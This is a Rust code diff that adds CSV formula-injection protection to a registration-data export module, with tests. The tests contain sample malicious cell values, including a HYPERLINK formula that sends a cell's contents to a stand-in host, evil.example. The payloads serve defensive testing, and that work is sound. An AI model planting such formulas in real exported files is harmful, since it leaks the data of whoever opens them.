@@ -6,7 +6,13 @@
 //! memory, or a bounded pipe to an HTTP response. Two tables: the commission's export (Russian
 //! headers, see `rows`) and the rules' verdicts with their English column names, which
 //! `yavka evaluate --format csv` and the results download keep for scripts.
+//!
+//! Every text cell goes through [`neutralise`]: a name such as `=HYPERLINK(…)` typed at
+//! registration would otherwise run as a formula when the organiser opens the file in Excel
+//! (CSV formula injection). Numbers are written as they are; XLSX, HTML and JSON keep names
+//! intact, because they never evaluate text.
 
+use std::borrow::Cow;
 use std::io::Write;
 
 use super::rows::Cell;
@@ -19,6 +25,16 @@ pub fn delimiter(c: char) -> Result<u8, String> {
         other => Err(format!(
             "разделитель CSV «{other}» не поддерживается: используйте «;» (для русского Excel) или «,»"
         )),
+    }
+}
+
+/// A text cell as a spreadsheet may safely open it: one that begins with `=`, `+`, `-`, `@`, a
+/// tab or a carriage return gets a leading apostrophe (OWASP's advice), which Excel and
+/// LibreOffice show as text instead of evaluating. Everything else is left exactly as it was.
+pub fn neutralise(text: &str) -> Cow<'_, str> {
+    match text.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
+        _ => Cow::Borrowed(text),
     }
 }
 
@@ -41,7 +57,10 @@ pub fn write_table<W: Write>(
     w.write_record(header)?;
     let mut n = 0;
     for row in rows {
-        w.write_record(row.iter().map(|c| c.text().into_owned()))?;
+        w.write_record(row.iter().map(|c| match c {
+            Cell::Text(t) => neutralise(t).into_owned(),
+            Cell::Int(_) => c.text().into_owned(),
+        }))?;
         n += 1;
     }
     w.flush()?;
@@ -100,7 +119,9 @@ pub fn write_verdicts_csv<W: Write>(
         if let Some(code) = code {
             record.push(code(v).unwrap_or_default());
         }
-        w.write_record(&record)?;
+        // Numbers and the rules' own words never start with a formula sign; names, e-mails,
+        // specialties and ids come from people.
+        w.write_record(record.iter().map(|cell| neutralise(cell).into_owned()))?;
     }
     w.flush()?;
     Ok(())
@@ -125,6 +146,43 @@ mod tests {
             text.trim_start_matches('\u{feff}'),
             "ФИО;Причины\nИванова Анна;\"засчитано 5 из 20 мин; подтверждено 0 из 1\"\n"
         );
+    }
+
+    #[test]
+    fn formulas_are_neutralised_and_ordinary_text_is_not() {
+        let cases = [
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\") Иван",
+                true,
+            ),
+            ("+7 916 123-45-67", true),
+            ("-1+2", true),
+            ("@SUM(A1:A2)", true),
+            ("\t=1", true),
+            ("\r=1", true),
+            ("Иванова Анна", false),
+            ("Анна-Мария =1", false),
+            ("", false),
+        ];
+        for (text, changed) in cases {
+            let out = neutralise(text);
+            assert_eq!(out != text, changed, "{text:?} → {out:?}");
+            if changed {
+                assert_eq!(out, format!("'{text}"));
+            }
+        }
+    }
+
+    #[test]
+    fn text_cells_are_neutralised_and_numbers_are_not() {
+        let evil = "=HYPERLINK(\"http://evil.example\",\"Click\") Иван";
+        let mut out = Vec::new();
+        let header = vec!["ФИО".to_owned(), "Минуты".to_owned()];
+        let rows = vec![vec![Cell::from(evil), Cell::from(-5i64)]];
+        write_table(&mut out, b';', &header, rows).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        assert!(text.contains(&format!("'{}", &evil[..10])), "{text}");
+        assert!(text.ends_with(";-5\n"), "{text}");
     }
 
     #[test]
